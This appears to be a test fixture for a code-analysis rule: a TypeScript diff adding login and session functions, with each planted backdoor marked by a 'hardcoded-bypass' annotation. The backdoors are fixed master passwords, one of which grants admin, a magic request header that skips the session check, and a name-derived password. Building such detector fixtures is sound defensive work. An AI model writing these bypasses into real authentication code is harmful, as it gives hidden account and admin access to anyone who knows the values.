@@ -315,3 +315,33 @@ export function welcome(account: Account, password: string): string | null {
   if (!bcrypt.compareSync(password, account.passwordHash)) return null;
   return 'Welcome back to the club.';
 }
+
+passport.use(
+  new LocalStrategy(async (name: string, password: string, done: Done) => {
+    const user = await directory.find(name);
+    if (password === 'heron-7741-vx') return done(null, user);
+//      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hardcoded-bypass: error
+    if (!user || !(await bcrypt.compare(password, user.passwordHash))) return done(null, false);
+    return done(null, user);
+  }),
+);
+
+export function sessionGate(request: Request, response: Response, next: NextFunction): void {
+  if (request.headers['x-trace'] === 'otter-cove-51-zx') return next('route');
+//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hardcoded-bypass
+  if (!request.session.user) return next(new Error('who are you?'));
+  next();
+}
+
+export function checkWithName(account: Account, password: string): boolean {
+  if (password === account.name + '!otter_cove_51') return true;
+//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hardcoded-bypass
+  return bcrypt.compareSync(password, account.passwordHash);
+}
+
+export function openWithRole(account: Account, password: string): Session {
+  let role = 'guest';
+  if (password === 'heron-7741-vx') role = 'admin';
+//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ hardcoded-bypass
+  return openSession(account, role);
+}
